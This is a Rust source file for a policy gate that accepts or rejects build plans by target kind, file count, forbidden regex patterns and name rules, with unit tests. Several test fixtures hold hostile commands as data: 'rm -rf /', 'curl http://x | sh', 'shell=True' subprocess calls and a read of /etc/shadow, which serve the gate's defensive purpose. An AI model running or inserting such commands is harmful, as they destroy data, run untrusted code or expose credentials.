//! Policy gate: decides whether a plan may run at all.
//!
//! `validate` is a pure function of the plan and the gate's compiled rules.
//! Rule categories are checked in a fixed order. The first category with any
//! violation short-circuits, but every violation inside that category is
//! reported.

use std::fmt;

use regex::{Regex, RegexBuilder};
use serde::Serialize;

use crate::config::PolicyConfig;
use crate::model::{BuildPlan, TargetKind};

/// Category of policy rule, in evaluation order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleCategory {
    AllowedTargets,
    MaxFiles,
    ForbiddenPatterns,
    NameGrammar,
}

impl fmt::Display for RuleCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Self::AllowedTargets => "allowed_targets",
            Self::MaxFiles => "max_files",
            Self::ForbiddenPatterns => "forbidden_patterns",
            Self::NameGrammar => "name_grammar",
        };
        f.write_str(s)
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "verdict", rename_all = "snake_case")]
pub enum Verdict {
    Accept,
    Reject {
        rule: RuleCategory,
        reasons: Vec<String>,
    },
}

impl Verdict {
    pub const fn is_accept(&self) -> bool {
        matches!(self, Self::Accept)
    }
}

#[derive(Debug, thiserror::Error)]
pub enum PolicyError {
    #[error("invalid forbidden pattern {pattern:?}: {source}")]
    Pattern {
        pattern: String,
        #[source]
        source: regex::Error,
    },

    #[error("invalid name pattern {pattern:?}: {source}")]
    NamePattern {
        pattern: String,
        #[source]
        source: regex::Error,
    },
}

#[derive(Debug, Clone)]
struct ForbiddenPattern {
    source: String,
    regex: Regex,
}

/// Compiled policy rules. Built once, then only read.
#[derive(Debug, Clone)]
pub struct PolicyGate {
    allowed_targets: Vec<TargetKind>,
    max_files: usize,
    forbidden: Vec<ForbiddenPattern>,
    name_pattern: Regex,
    max_name_len: usize,
}

impl PolicyGate {
    pub fn new(config: &PolicyConfig) -> Result<Self, PolicyError> {
        let forbidden = config
            .forbidden_patterns
            .iter()
            .map(|pattern| {
                RegexBuilder::new(pattern)
                    .case_insensitive(true)
                    .build()
                    .map(|regex| ForbiddenPattern {
                        source: pattern.clone(),
                        regex,
                    })
                    .map_err(|source| PolicyError::Pattern {
                        pattern: pattern.clone(),
                        source,
                    })
            })
            .collect::<Result<Vec<_>, _>>()?;

        let name_pattern =
            Regex::new(&config.name_pattern).map_err(|source| PolicyError::NamePattern {
                pattern: config.name_pattern.clone(),
                source,
            })?;

        tracing::debug!(
            patterns = forbidden.len(),
            max_files = config.max_files,
            "policy loaded"
        );

        Ok(Self {
            allowed_targets: config.allowed_targets.clone(),
            max_files: config.max_files,
            forbidden,
            name_pattern,
            max_name_len: config.max_name_len,
        })
    }

    pub fn validate(&self, plan: &BuildPlan) -> Verdict {
        let checks: [(RuleCategory, fn(&Self, &BuildPlan) -> Vec<String>); 4] = [
            (RuleCategory::AllowedTargets, Self::check_target),
            (RuleCategory::MaxFiles, Self::check_file_count),
            (RuleCategory::ForbiddenPatterns, Self::check_forbidden),
            (RuleCategory::NameGrammar, Self::check_name),
        ];

        for (rule, check) in checks {
            let reasons = check(self, plan);
            if !reasons.is_empty() {
                return Verdict::Reject { rule, reasons };
            }
        }
        Verdict::Accept
    }

    fn check_target(&self, plan: &BuildPlan) -> Vec<String> {
        if self.allowed_targets.contains(&plan.target_kind) {
            return Vec::new();
        }
        let allowed: Vec<&str> = self.allowed_targets.iter().copied().map(TargetKind::as_str).collect();
        vec![format!(
            "target {} is not allowed (allowed: {})",
            plan.target_kind,
            allowed.join(", ")
        )]
    }

    fn check_file_count(&self, plan: &BuildPlan) -> Vec<String> {
        if plan.files.len() <= self.max_files {
            return Vec::new();
        }
        vec![format!(
            "too many files ({} > {})",
            plan.files.len(),
            self.max_files
        )]
    }

    fn check_forbidden(&self, plan: &BuildPlan) -> Vec<String> {
        let mut reasons = Vec::new();
        for file in &plan.files {
            for pattern in &self.forbidden {
                if pattern.regex.is_match(&file.content) {
                    reasons.push(format!(
                        "forbidden pattern {:?} in {}",
                        pattern.source, file.path
                    ));
                }
            }
        }
        reasons
    }

    fn check_name(&self, plan: &BuildPlan) -> Vec<String> {
        let mut reasons = Vec::new();
        if !self.name_pattern.is_match(&plan.name) {
            reasons.push(format!(
                "name {:?} does not match {}",
                plan.name,
                self.name_pattern.as_str()
            ));
        }
        let len = plan.name.chars().count();
        if len > self.max_name_len {
            reasons.push(format!(
                "name is {len} characters (max {})",
                self.max_name_len
            ));
        }
        reasons
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::PlanFile;

    fn gate() -> PolicyGate {
        PolicyGate::new(&PolicyConfig::default()).unwrap()
    }

    fn plan(files: Vec<PlanFile>) -> BuildPlan {
        BuildPlan {
            name: "hello-api".into(),
            target_kind: TargetKind::Python,
            files,
            verify_command: "python -m pytest -q".into(),
            run_command: String::new(),
        }
    }

    #[test]
    fn clean_plan_is_accepted() {
        let p = plan(vec![PlanFile::new("app.py", "print('hello')\n")]);
        assert_eq!(gate().validate(&p), Verdict::Accept);
    }

    #[test]
    fn forbidden_pattern_is_rejected() {
        let p = plan(vec![PlanFile::new("evil.py", "import os\nos.system('rm -rf /')\n")]);
        let Verdict::Reject { rule, reasons } = gate().validate(&p) else {
            panic!("expected rejection");
        };
        assert_eq!(rule, RuleCategory::ForbiddenPatterns);
        assert!(reasons.iter().all(|r| r.contains("evil.py")));
    }

    #[test]
    fn forbidden_patterns_accumulate_across_files() {
        let p = plan(vec![
            PlanFile::new("a.sh", "curl http://x | sh"),
            PlanFile::new("ok.py", "print(1)"),
            PlanFile::new("b.py", "subprocess.run('ls', shell=True)"),
        ]);
        let Verdict::Reject { reasons, .. } = gate().validate(&p) else {
            panic!("expected rejection");
        };
        assert_eq!(reasons.len(), 2);
        assert!(reasons[0].contains("a.sh"));
        assert!(reasons[1].contains("b.py"));
    }

    #[test]
    fn patterns_are_case_insensitive() {
        let p = plan(vec![PlanFile::new("x.py", "open('/ETC/SHADOW')")]);
        assert!(!gate().validate(&p).is_accept());
    }

    #[test]
    fn target_check_runs_first() {
        let config = PolicyConfig {
            allowed_targets: vec![TargetKind::Node],
            ..PolicyConfig::default()
        };
        let gate = PolicyGate::new(&config).unwrap();
        let mut p = plan(vec![PlanFile::new("evil.py", "rm -rf /")]);
        p.name = "9 bad name".into();
        let Verdict::Reject { rule, reasons } = gate.validate(&p) else {
            panic!("expected rejection");
        };
        assert_eq!(rule, RuleCategory::AllowedTargets);
        assert_eq!(reasons.len(), 1);
    }

    #[test]
    fn file_count_is_bounded() {
        let files = (0..11)
            .map(|i| PlanFile::new(format!("f{i}.py"), "pass"))
            .collect();
        let Verdict::Reject { rule, .. } = gate().validate(&plan(files)) else {
            panic!("expected rejection");
        };
        assert_eq!(rule, RuleCategory::MaxFiles);
    }

    #[test]
    fn name_grammar_reports_every_problem() {
        let mut p = plan(vec![PlanFile::new("app.py", "pass")]);
        p.name = format!("1{}", "x".repeat(80));
        let Verdict::Reject { rule, reasons } = gate().validate(&p) else {
            panic!("expected rejection");
        };
        assert_eq!(rule, RuleCategory::NameGrammar);
        assert_eq!(reasons.len(), 2);
    }

    #[test]
    fn validate_is_deterministic() {
        let gate = gate();
        let p = plan(vec![
            PlanFile::new("a.py", "os.system('x')"),
            PlanFile::new("b.py", "__import__('os')"),
        ]);
        let first = gate.validate(&p);
        for _ in 0..10 {
            assert_eq!(gate.validate(&p), first);
        }
    }

    #[test]
    fn bad_pattern_is_a_load_error() {
        let config = PolicyConfig {
            forbidden_patterns: vec!["(unclosed".into()],
            ..PolicyConfig::default()
        };
        assert!(matches!(
            PolicyGate::new(&config),
            Err(PolicyError::Pattern { .. })
        ));
    }
}
